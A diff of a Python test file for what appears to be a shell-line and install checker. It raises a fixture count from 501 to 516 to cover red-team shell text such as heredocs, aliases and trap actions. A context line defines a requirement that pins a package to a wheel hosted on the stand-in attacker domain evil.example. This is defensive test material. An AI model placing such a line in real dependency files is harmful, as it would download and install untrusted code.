@@ -42,9 +42,10 @@ def test_generated_shell_line(case):
 def test_the_fixture_is_there_and_refuses_and_allows():
     # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions, 22
     # assignments holding expansions (red team 13 R13-9), 16 lines of launchers that run shell
-    # text (R13-5)
+    # text (R13-5), 15 of red team 13's shell text (arithmetic, heredoc bodies the shell
+    # expands, alias values, trap actions)
     outcomes = {tuple(c["rules"]) for c in CASES}
-    assert len(CASES) == 501 and () in outcomes and ("install-unreadable",) in outcomes
+    assert len(CASES) == 516 and () in outcomes and ("install-unreadable",) in outcomes
 
 
 URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"
